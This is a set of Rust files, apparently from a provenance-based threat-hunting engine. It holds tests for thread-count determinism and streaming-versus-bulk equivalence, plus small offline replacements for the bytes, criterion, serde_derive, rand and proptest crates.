const THREADS: &[usize] = &[1, 2, 4, 8];

struct Fixture {
    /// Bulk-loaded engine.
    bulk: RefCell<Engine>,
    /// Stream-grown session (kept whole so its engine stays borrowable).
    streamed: RefCell<StreamSession>,
}

thread_local! {
    /// Built once per test thread — the properties only read the stores.
    static FIXTURE: Fixture = {
        let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
        let built = raptor_cases::build_case(spec, 0.2, 99);
        let bulk = Engine::new(load(&built.log).unwrap());
        let mut session = StreamSession::new().unwrap();
        for batch in EpochStream::new(&built.log, EpochPolicy::ByCount(64)) {
            session.ingest_batch(&batch).unwrap();
        }
        Fixture { bulk: RefCell::new(bulk), streamed: RefCell::new(session) }
    };
}

/// The deterministic fingerprint of one execution: exact rows (order
/// included) plus every deterministic work counter.
#[derive(Debug, PartialEq)]
struct Fingerprint {
    rows: Vec<Vec<String>>,
    backend: threatraptor::storage::BackendStats,
    data_queries: usize,
    text_parses: usize,
    execution_order: Vec<usize>,
    query_labels: Vec<String>,
    short_circuited: bool,
}

fn fingerprint(rows: Vec<Vec<String>>, stats: &EngineStats) -> Fingerprint {
    Fingerprint {
        rows,
        backend: stats.backend,
        data_queries: stats.data_queries,
        text_parses: stats.text_parses,
        execution_order: stats.execution_order.clone(),
        query_labels: stats.queries.iter().map(|q| q.label.clone()).collect(),
        short_circuited: stats.short_circuited,
    }
}

fn run(engine: &Engine, tbql: &str) -> Fingerprint {
    let (table, stats) = engine.execute_text(tbql, ExecMode::Scheduled).unwrap();
    fingerprint(table.rows, &stats)
}

/// Executes `tbql` on both store builds across every thread count and
/// asserts each store's executions are byte-identical to its sequential
/// (1-thread) run.
fn assert_thread_count_invisible(tbql: &str) {
    FIXTURE.with(|fx| {
        let bulk_at = |t: usize| {
            let mut e = fx.bulk.borrow_mut();
            e.set_threads(t);
            run(&e, tbql)
        };
        let streamed_at = |t: usize| {
            let mut s = fx.streamed.borrow_mut();
            s.set_threads(t);
            run(s.engine(), tbql)
        };
        let (bulk_ref, streamed_ref) = (bulk_at(1), streamed_at(1));
        for &t in &THREADS[1..] {
            assert_eq!(bulk_at(t), bulk_ref, "bulk store diverged at {t} threads for: {tbql}");
            assert_eq!(
                streamed_at(t),
                streamed_ref,
                "streamed store diverged at {t} threads for: {tbql}"
            );
        }
    });
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Any corpus query, either backend form, any thread count, either
    /// store build: identical rows (order included) and identical
    /// deterministic work counters.
    #[test]
    fn thread_count_is_never_observable(case_idx in 0usize..16) {
        let q = QUERIES[case_idx % QUERIES.len()];
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        // First half: event-pattern form (relational backend); second
        // half: length-1 path form (graph backend).
        let text = if case_idx < QUERIES.len() {
            print_query(&parsed)
        } else {
            print_query(&to_length1_path_query(&parsed))
        };
        assert_thread_count_invisible(&text);
    }
}

/// A query that short-circuits one dependency chain while another chain
/// still runs — the short-circuit path must be just as thread-count
/// invariant as the happy path.
#[test]
fn short_circuit_is_thread_count_invariant() {
    let q = "proc p[\"%/bin/nonexistent%\"] read file f as e1 \
             proc p write file f2 as e2 \
             proc q connect ip i as e3 return p, f";
    assert_thread_count_invisible(q);
    FIXTURE.with(|fx| {
        let e = fx.bulk.borrow();
        let (table, stats) = e.execute_text(q, ExecMode::Scheduled).unwrap();
        assert!(table.rows.is_empty());
        assert!(stats.short_circuited);
    });
}

/// The read path is `Sync` by construction — the whole point of replacing
/// interior mutability (`Cell`) with atomics. A compile-time pin.
#[test]
fn stores_and_engine_are_sync() {
    fn is_sync<T: Sync>() {}
    is_sync::<threatraptor::relstore::Database>();
    is_sync::<threatraptor::graphstore::Graph>();
    is_sync::<Engine>();
}
