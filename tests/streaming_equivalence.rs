//! Streaming ↔ batch equivalence.
//!
//! Two properties pin the streaming subsystem to the batch semantics:
//!
//! 1. **Store equivalence** — ingesting any attack case's events in
//!    shuffled epoch-sized chunks builds stores that answer every corpus
//!    query byte-identically (`sorted_rows()`) to a one-shot bulk load, on
//!    both backends (event patterns exercise the relational store, the
//!    length-1 path rewrite exercises the graph store).
//! 2. **Continuous evaluation** — standing queries advanced epoch-by-epoch
//!    over the data_leak case emit deltas whose concatenation equals the
//!    `ExecMode::Scheduled` batch result after the final epoch, with zero
//!    SQL/Cypher text parses along the way.

use proptest::prelude::*;
use rand::{rngs::StdRng, Rng, SeedableRng};
use threatraptor::audit::SystemEvent;
use threatraptor::engine::exec::ExecMode;
use threatraptor::engine::load::load;
use threatraptor::engine::{Engine, ResultTable};
use threatraptor::stream::{EpochPolicy, EpochStream, StreamSession};
use threatraptor::tbql::print::print_query;

/// The 8-query equivalence corpus (the shared constant — same fragment as
/// the backend-equivalence suite; IOCs match the data_leak case, other
/// cases legitimately return empty — equivalence must hold either way).
const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;

fn shuffled(events: &[SystemEvent], seed: u64) -> Vec<SystemEvent> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out: Vec<SystemEvent> = events.to_vec();
    for i in (1..out.len()).rev() {
        let j = rng.gen_range(0..(i + 1));
        out.swap(i, j);
    }
    out
}

/// Every corpus query, in both its event-pattern form (relational backend)
/// and its length-1 path form (graph backend), must agree between the two
/// engines.
fn assert_engines_equivalent(streamed: &Engine, bulk: &Engine, ctx: &str) {
    for q in QUERIES {
        let (a, astats) = streamed.execute_text(q, ExecMode::Scheduled).unwrap();
        let (b, _) = bulk.execute_text(q, ExecMode::Scheduled).unwrap();
        assert_eq!(a.sorted_rows(), b.sorted_rows(), "{ctx}: query {q}");
        assert_eq!(astats.backend.items_inserted, 0, "queries must not insert");

        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let path_q = print_query(&threatraptor::engine::exec::to_length1_path_query(&parsed));
        let (ap, _) = streamed.execute_text(&path_q, ExecMode::Scheduled).unwrap();
        let (bp, _) = bulk.execute_text(&path_q, ExecMode::Scheduled).unwrap();
        assert_eq!(ap.sorted_rows(), bp.sorted_rows(), "{ctx}: path query {path_q}");
        assert_eq!(a.sorted_rows(), ap.sorted_rows(), "{ctx}: backends disagree for {q}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Property: any case, any epoch size, any delivery order — streamed
    /// stores are indistinguishable from bulk-loaded ones.
    #[test]
    fn shuffled_chunked_ingest_equals_bulk_load(
        case_idx in 0usize..18,
        epoch_size in 1usize..400,
        seed in 0u64..1_000_000,
    ) {
        let cases = raptor_cases::all_cases();
        let spec = cases[case_idx % cases.len()];
        let built = raptor_cases::build_case(spec, 0.05, 1234);

        let mut session = StreamSession::new().unwrap();
        let events = shuffled(&built.log.events, seed);
        for chunk in events.chunks(epoch_size) {
            session.ingest_chunk(&built.log, chunk).unwrap();
        }
        session.flush_entities(&built.log).unwrap();

        let bulk = Engine::new(load(&built.log).unwrap());
        let streamed = session.engine();
        prop_assert_eq!(streamed.stores.rel.total_rows(), bulk.stores.rel.total_rows());
        prop_assert_eq!(streamed.stores.graph.node_count(), bulk.stores.graph.node_count());
        prop_assert_eq!(streamed.stores.graph.edge_count(), bulk.stores.graph.edge_count());
        prop_assert_eq!(streamed.stores.now_ns, bulk.stores.now_ns);
        assert_engines_equivalent(streamed, &bulk, spec.id);

        // The shared dictionary plane under interleaved/shuffled ingestion:
        // chunked inserts into *both* backends still build exactly one
        // dictionary, with identical sym↔string mappings observed from each
        // store (and from the statistics plane they feed).
        prop_assert!(streamed.stores.dict.ptr_eq(streamed.stores.rel.dict()));
        prop_assert!(streamed.stores.dict.ptr_eq(streamed.stores.graph.dict()));
        prop_assert!(streamed
            .stores
            .rel
            .store_stats()
            .dict()
            .ptr_eq(streamed.stores.graph.store_stats().dict()));
        for (sym, s) in streamed.stores.dict.iter() {
            prop_assert_eq!(streamed.stores.rel.dict().resolve(sym), s);
            prop_assert_eq!(streamed.stores.graph.dict().get(s), Some(sym));
        }
    }
}

/// The statistics plane stays fresh per epoch: stats are maintained on the
/// shared write path, so after *every* ingested epoch the streamed stores'
/// row counts match what has been ingested so far, and after the final
/// epoch the full statistics (tables, columns, degree summaries) are
/// identical to a bulk load's — on both backends, which also agree with
/// each other.
#[test]
fn streamed_stats_match_bulk_and_stay_fresh() {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let built = raptor_cases::build_case(spec, 0.2, 99);

    let mut session = StreamSession::new().unwrap();
    let mut events_so_far = 0u64;
    for batch in EpochStream::new(&built.log, EpochPolicy::ByCount(64)) {
        let report = session.ingest_batch(&batch).unwrap();
        events_so_far += report.events_ingested as u64;
        let stats = session.engine().stores.rel.store_stats();
        assert_eq!(
            stats.table("events").map_or(0, |t| t.rows()),
            events_so_far,
            "stats must advance with every epoch"
        );
    }
    let bulk = Engine::new(load(&built.log).unwrap());
    let streamed = session.engine();
    // Within one engine both backends intern into one dictionary plane, so
    // their stats are equal at the *symbol* level.
    assert_eq!(streamed.stores.rel.store_stats(), streamed.stores.graph.store_stats());
    assert_eq!(bulk.stores.rel.store_stats(), bulk.stores.graph.store_stats());
    // Across engines the dictionaries differ (stream epochs interleave
    // entity/event interning; bulk loads all entities first), so compare
    // the dictionary-independent canonical view.
    assert_eq!(
        streamed.stores.rel.store_stats().canonical(),
        bulk.stores.rel.store_stats().canonical()
    );
    assert_eq!(
        streamed.stores.graph.store_stats().canonical(),
        bulk.stores.graph.store_stats().canonical()
    );
    assert!(bulk.stores.rel.store_stats().event_op_freq("read") > 0);
}

/// The acceptance invariant: continuous standing-query evaluation over the
/// data_leak case converges, after the final epoch, to exactly the batch
/// `ExecMode::Scheduled` results — for the whole corpus — and the whole
/// streaming path is parse-free.
#[test]
fn continuous_data_leak_evaluation_matches_batch() {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let built = raptor_cases::build_case(spec, 0.2, 99);

    let mut session = StreamSession::new().unwrap();
    let qids: Vec<_> = QUERIES
        .iter()
        .enumerate()
        .map(|(i, q)| session.register(&format!("q{i}"), q).unwrap())
        .collect();

    let mut per_query_delta_rows = vec![0usize; QUERIES.len()];
    let mut inserted_total = 0usize;
    for batch in EpochStream::new(&built.log, EpochPolicy::ByCount(64)) {
        let report = session.ingest_batch(&batch).unwrap();
        // Per-epoch reset semantics: each report counts its own inserts.
        assert_eq!(
            report.ingest_stats.items_inserted,
            2 * (report.entities_ingested + report.events_ingested)
        );
        inserted_total += report.ingest_stats.items_inserted;
        for d in &report.deltas {
            assert_eq!(d.stats.text_parses, 0, "delta evaluation parsed text");
            assert_eq!(d.stats.backend.text_parses, 0);
            // The streaming path is symbol-only: delta evaluation (matching,
            // joining, multiset-diffing) materializes no strings — rendering
            // happens only if/when a consumer reaches the edge.
            assert_eq!(d.stats.strings_materialized, 0, "delta evaluation rendered strings");
            per_query_delta_rows[d.id.0] += d.delta.n_rows();
        }
    }
    assert_eq!(
        inserted_total,
        2 * (built.log.entities.len() + built.log.events.len()),
        "running total aggregates the per-epoch counters"
    );
    assert_eq!(session.engine().stores.rel.text_parse_count(), 0);

    let bulk = Engine::new(load(&built.log).unwrap());
    for (i, q) in QUERIES.iter().enumerate() {
        let (expect, _) = bulk.execute_text(q, ExecMode::Scheduled).unwrap();
        let got = ResultTable::from_batch(&session.query(qids[i]).cumulative_batch());
        assert_eq!(got.sorted_rows(), expect.sorted_rows(), "query {q}");
        assert_eq!(per_query_delta_rows[i], expect.rows.len(), "delta rows for {q}");
    }
    // The attack is actually found: at least one corpus query fired.
    assert!(per_query_delta_rows.iter().any(|&n| n > 0));
}
