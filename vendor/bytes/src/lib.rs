//! Offline stand-in for the `bytes` crate.
//!
//! The workspace vendors the small API subset it actually uses (the audit
//! codec): `Bytes` / `BytesMut` with little-endian get/put accessors and
//! cheap slicing. The container building this repo has no network access,
//! so the real crate cannot be fetched; this keeps the public surface
//! source-compatible for the call sites in `raptor-audit`.

use std::ops::{Bound, RangeBounds};
use std::sync::Arc;

/// Read-side cursor over shared immutable bytes.
#[derive(Clone, Debug)]
pub struct Bytes {
    data: Arc<Vec<u8>>,
    start: usize,
    end: usize,
}

impl Bytes {
    pub fn new() -> Self {
        Bytes { data: Arc::new(Vec::new()), start: 0, end: 0 }
    }

    pub fn len(&self) -> usize {
        self.end - self.start
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn as_slice(&self) -> &[u8] {
        &self.data[self.start..self.end]
    }

    pub fn to_vec(&self) -> Vec<u8> {
        self.as_slice().to_vec()
    }

    /// Returns a view into the same backing storage.
    pub fn slice(&self, range: impl RangeBounds<usize>) -> Bytes {
        let lo = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let hi = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len(),
        };
        assert!(lo <= hi && hi <= self.len(), "slice out of bounds");
        Bytes { data: Arc::clone(&self.data), start: self.start + lo, end: self.start + hi }
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        let end = v.len();
        Bytes { data: Arc::new(v), start: 0, end }
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for Bytes {}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

/// Growable write buffer.
#[derive(Clone, Debug, Default)]
pub struct BytesMut {
    buf: Vec<u8>,
}

impl BytesMut {
    pub fn new() -> Self {
        BytesMut { buf: Vec::new() }
    }

    pub fn with_capacity(n: usize) -> Self {
        BytesMut { buf: Vec::with_capacity(n) }
    }

    pub fn len(&self) -> usize {
        self.buf.len()
    }

    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    pub fn to_vec(&self) -> Vec<u8> {
        self.buf.clone()
    }

    pub fn freeze(self) -> Bytes {
        Bytes::from(self.buf)
    }
}

/// Read accessors. Every `get_*` panics on underflow like the real crate;
/// callers bounds-check with [`Buf::remaining`] first.
pub trait Buf {
    fn remaining(&self) -> usize;
    fn chunk(&self) -> &[u8];
    fn advance(&mut self, cnt: usize);

    fn copy_to_bytes(&mut self, len: usize) -> Bytes {
        assert!(self.remaining() >= len, "copy_to_bytes underflow");
        let out = Bytes::from(self.chunk()[..len].to_vec());
        self.advance(len);
        out
    }

    fn get_u8(&mut self) -> u8 {
        let b = self.chunk()[0];
        self.advance(1);
        b
    }

    fn get_u16_le(&mut self) -> u16 {
        let mut a = [0u8; 2];
        a.copy_from_slice(&self.chunk()[..2]);
        self.advance(2);
        u16::from_le_bytes(a)
    }

    fn get_u32_le(&mut self) -> u32 {
        let mut a = [0u8; 4];
        a.copy_from_slice(&self.chunk()[..4]);
        self.advance(4);
        u32::from_le_bytes(a)
    }

    fn get_i32_le(&mut self) -> i32 {
        let mut a = [0u8; 4];
        a.copy_from_slice(&self.chunk()[..4]);
        self.advance(4);
        i32::from_le_bytes(a)
    }

    fn get_u64_le(&mut self) -> u64 {
        let mut a = [0u8; 8];
        a.copy_from_slice(&self.chunk()[..8]);
        self.advance(8);
        u64::from_le_bytes(a)
    }

    fn get_i64_le(&mut self) -> i64 {
        let mut a = [0u8; 8];
        a.copy_from_slice(&self.chunk()[..8]);
        self.advance(8);
        i64::from_le_bytes(a)
    }
}

impl Buf for Bytes {
    fn remaining(&self) -> usize {
        self.len()
    }

    fn chunk(&self) -> &[u8] {
        self.as_slice()
    }

    fn advance(&mut self, cnt: usize) {
        assert!(cnt <= self.len(), "advance past end");
        self.start += cnt;
    }
}

/// Write accessors.
pub trait BufMut {
    fn put_slice(&mut self, src: &[u8]);

    fn put_u8(&mut self, v: u8) {
        self.put_slice(&[v]);
    }

    fn put_u16_le(&mut self, v: u16) {
        self.put_slice(&v.to_le_bytes());
    }

    fn put_u32_le(&mut self, v: u32) {
        self.put_slice(&v.to_le_bytes());
    }

    fn put_i32_le(&mut self, v: i32) {
        self.put_slice(&v.to_le_bytes());
    }

    fn put_u64_le(&mut self, v: u64) {
        self.put_slice(&v.to_le_bytes());
    }

    fn put_i64_le(&mut self, v: i64) {
        self.put_slice(&v.to_le_bytes());
    }
}

impl BufMut for BytesMut {
    fn put_slice(&mut self, src: &[u8]) {
        self.buf.extend_from_slice(src);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_and_slice() {
        let mut m = BytesMut::with_capacity(16);
        m.put_u8(7);
        m.put_u32_le(0xAABBCCDD);
        m.put_i64_le(-5);
        let mut b = m.freeze();
        assert_eq!(b.len(), 13);
        let view = b.slice(..5);
        assert_eq!(view.len(), 5);
        assert_eq!(b.get_u8(), 7);
        assert_eq!(b.get_u32_le(), 0xAABBCCDD);
        assert_eq!(b.get_i64_le(), -5);
        assert_eq!(b.remaining(), 0);
    }

    #[test]
    fn copy_to_bytes_advances() {
        let mut b = Bytes::from(vec![1, 2, 3, 4]);
        let head = b.copy_to_bytes(2);
        assert_eq!(head.to_vec(), vec![1, 2]);
        assert_eq!(b.remaining(), 2);
    }
}
