//! Offline stand-in for `criterion`.
//!
//! Implements the API surface the workspace benches use (`Criterion`,
//! `benchmark_group`, `sample_size`, `bench_function`, `iter`,
//! `criterion_group!` / `criterion_main!`) with a plain wall-clock harness:
//! a short warm-up, then `sample_size` timed samples, reporting
//! mean / min / max per-iteration time. No statistics, plots, or baselines —
//! but the printed numbers are comparable run-to-run on the same machine,
//! which is what the benches here are for.

use std::time::{Duration, Instant};

/// Target wall-clock budget per benchmark (split across samples).
const TARGET_SAMPLE_TIME: Duration = Duration::from_millis(600);

#[derive(Debug)]
pub struct Criterion {
    default_sample_size: usize,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion { default_sample_size: 20 }
    }
}

impl Criterion {
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        let sample_size = self.default_sample_size;
        BenchmarkGroup { _parent: self, name: name.to_string(), sample_size }
    }

    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let n = self.default_sample_size;
        run_bench(id, n, f);
        self
    }
}

pub struct BenchmarkGroup<'a> {
    _parent: &'a mut Criterion,
    name: String,
    sample_size: usize,
}

impl BenchmarkGroup<'_> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(2);
        self
    }

    pub fn bench_function<F>(&mut self, id: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, id);
        run_bench(&full, self.sample_size, f);
        self
    }

    pub fn finish(self) {}
}

fn run_bench<F: FnMut(&mut Bencher)>(id: &str, sample_size: usize, mut f: F) {
    // Calibration pass: how long does one closure invocation take?
    let mut b = Bencher { iters: 1, elapsed: Duration::ZERO };
    f(&mut b);
    let per_iter = b.elapsed.max(Duration::from_nanos(1));
    let budget_per_sample = TARGET_SAMPLE_TIME / sample_size as u32;
    let iters_per_sample =
        (budget_per_sample.as_nanos() / per_iter.as_nanos()).clamp(1, 1_000_000) as u64;

    let mut samples: Vec<f64> = Vec::with_capacity(sample_size);
    for _ in 0..sample_size {
        let mut b = Bencher { iters: iters_per_sample, elapsed: Duration::ZERO };
        f(&mut b);
        samples.push(b.elapsed.as_secs_f64() / iters_per_sample as f64);
    }
    let mean = samples.iter().sum::<f64>() / samples.len() as f64;
    let min = samples.iter().copied().fold(f64::INFINITY, f64::min);
    let max = samples.iter().copied().fold(0.0f64, f64::max);
    println!(
        "{id:<48} time: [{} {} {}]  ({} samples x {} iters)",
        fmt_time(min),
        fmt_time(mean),
        fmt_time(max),
        sample_size,
        iters_per_sample,
    );
}

fn fmt_time(secs: f64) -> String {
    if secs < 1e-6 {
        format!("{:.2} ns", secs * 1e9)
    } else if secs < 1e-3 {
        format!("{:.2} us", secs * 1e6)
    } else if secs < 1.0 {
        format!("{:.2} ms", secs * 1e3)
    } else {
        format!("{secs:.2} s")
    }
}

pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        let start = Instant::now();
        for _ in 0..self.iters {
            std::hint::black_box(f());
        }
        self.elapsed = start.elapsed();
    }
}

/// `criterion_group!(name, target...)` — a function running each target.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut c = $crate::Criterion::default();
            $($target(&mut c);)+
        }
    };
}

/// `criterion_main!(group...)` — the bench binary's `main`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            // `cargo test` runs harness-less bench binaries with `--test`;
            // benches are not tests, so bail out quickly there.
            if std::env::args().any(|a| a == "--test") {
                return;
            }
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_runs_closure() {
        let mut calls = 0u64;
        let mut b = Bencher { iters: 5, elapsed: Duration::ZERO };
        b.iter(|| calls += 1);
        assert_eq!(calls, 5);
        assert!(b.elapsed > Duration::ZERO || calls == 5);
    }

    #[test]
    fn group_api_compiles_and_runs() {
        let mut c = Criterion::default();
        let mut g = c.benchmark_group("g");
        g.sample_size(2);
        g.bench_function("noop", |b| b.iter(|| 1 + 1));
        g.finish();
    }
}
