//! Offline stand-in for `serde_derive`.
//!
//! The workspace only decorates a few types with `#[derive(Serialize,
//! Deserialize)]` and never serializes them through serde (no serde_json in
//! the tree), so the derives can legally expand to nothing.

use proc_macro::TokenStream;

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_item: TokenStream) -> TokenStream {
    TokenStream::new()
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_item: TokenStream) -> TokenStream {
    TokenStream::new()
}
