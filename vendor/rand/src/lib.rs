//! Offline stand-in for the `rand` crate.
//!
//! Provides `StdRng` + `SeedableRng` + `Rng::{gen_range, gen_bool}` — the
//! subset the deterministic audit simulator uses. The generator is a
//! splitmix64: statistically fine for workload simulation, deterministic
//! per seed, and emphatically not cryptographic (neither is the simulator).

use std::ops::{Range, RangeFrom};

pub trait RngCore {
    fn next_u64(&mut self) -> u64;
}

pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

pub mod rngs {
    /// Deterministic splitmix64 generator.
    #[derive(Clone, Debug)]
    pub struct StdRng {
        pub(crate) state: u64,
    }

    impl super::RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    impl super::SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            StdRng { state: seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0xD1B5_4A32_D192_ED03 }
        }
    }
}

/// Ranges a value can be uniformly sampled from.
pub trait SampleRange<T> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_int_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty range in gen_range");
                let span = (self.end as i128 - self.start as i128) as u128;
                let v = ((rng.next_u64() as u128) % span) as i128 + self.start as i128;
                v as $t
            }
        }
        impl SampleRange<$t> for RangeFrom<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                (self.start..<$t>::MAX).sample_from(rng)
            }
        }
    )*};
}

impl_int_range!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

impl SampleRange<f64> for Range<f64> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        let unit = (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        self.start + unit * (self.end - self.start)
    }
}

pub trait Rng: RngCore {
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_from(self)
    }

    fn gen_bool(&mut self, p: f64) -> bool {
        let unit = (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        unit < p
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.gen_range(0..1_000_000i64), b.gen_range(0..1_000_000i64));
        }
    }

    #[test]
    fn ranges_respected() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v: usize = rng.gen_range(3..9);
            assert!((3..9).contains(&v));
            let f: f64 = rng.gen_range(0.0f64..1.0);
            assert!((0.0..1.0).contains(&f));
            let n: i64 = rng.gen_range(-50..-10i64);
            assert!((-50..-10).contains(&n));
        }
    }

    #[test]
    fn gen_bool_mixes() {
        let mut rng = StdRng::seed_from_u64(1);
        let trues = (0..1000).filter(|_| rng.gen_bool(0.5)).count();
        assert!((300..700).contains(&trues), "{trues}");
    }
}
