//! Deterministic RNG for case generation, plus the (tiny) config type.

/// Per-property configuration; only `cases` is honored.
#[derive(Clone, Copy, Debug)]
pub struct ProptestConfig {
    pub cases: u32,
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: crate::NUM_CASES as u32 }
    }
}

/// Splitmix64 seeded from the test name: every test gets a fixed, distinct
/// case sequence, so failures reproduce run-to-run.
#[derive(Clone, Debug)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    pub fn from_name(name: &str) -> Self {
        let mut h: u64 = 0xcbf2_9ce4_8422_2325;
        for b in name.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        TestRng { state: h }
    }

    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `[0, n)`; `n` must be nonzero.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// Uniform in `[0, 1)`.
    pub fn unit_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
}
