//! Offline stand-in for `proptest`.
//!
//! Implements the generate-side of the proptest API this workspace's
//! property tests use: the [`Strategy`] trait with `prop_map` /
//! `prop_flat_map` / `prop_recursive`, strategies for string patterns
//! (regex subset: literal chars, char classes, `{m,n}` repetition), integer
//! and float ranges, tuples, `Just`, unions (`prop_oneof!`), collections,
//! options, chars and bools, plus the `proptest!` test macro.
//!
//! No shrinking: a failing case panics with the generated inputs in the
//! assertion message (cases are reproducible — the per-test RNG seed is
//! derived from the test name). That trades minimal counterexamples for
//! zero dependencies, which an offline build requires.

pub mod strategy;
pub mod test_runner;

pub mod prelude {
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

pub use strategy::{Just, Strategy};
pub use test_runner::ProptestConfig;

/// Number of generated cases per property when no `proptest_config` is
/// given (the real crate defaults to 256; 64 keeps the suite fast while
/// still exercising the space).
pub const NUM_CASES: usize = 64;

pub mod bool {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    #[derive(Clone, Copy, Debug)]
    pub struct Any;

    /// `proptest::bool::ANY`
    pub const ANY: Any = Any;

    impl Strategy for Any {
        type Value = bool;
        fn generate(&self, rng: &mut TestRng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }
}

pub mod char {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    #[derive(Clone, Copy, Debug)]
    pub struct CharRange {
        lo: u32,
        hi: u32,
    }

    /// Uniform char in `[lo, hi]` (inclusive, like the real crate).
    pub fn range(lo: char, hi: char) -> CharRange {
        CharRange { lo: lo as u32, hi: hi as u32 }
    }

    impl Strategy for CharRange {
        type Value = char;
        fn generate(&self, rng: &mut TestRng) -> char {
            // Retry on the (rare) surrogate gap.
            loop {
                let v = self.lo + (rng.next_u64() % (self.hi - self.lo + 1) as u64) as u32;
                if let Some(c) = char::from_u32(v) {
                    return c;
                }
            }
        }
    }
}

pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use std::ops::Range;

    #[derive(Clone, Debug)]
    pub struct VecStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    /// `proptest::collection::vec(element, size_range)`
    pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = (self.size.end - self.size.start).max(1) as u64;
            let n = self.size.start + (rng.next_u64() % span) as usize;
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

pub mod option {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    #[derive(Clone, Debug)]
    pub struct OptionStrategy<S> {
        inner: S,
    }

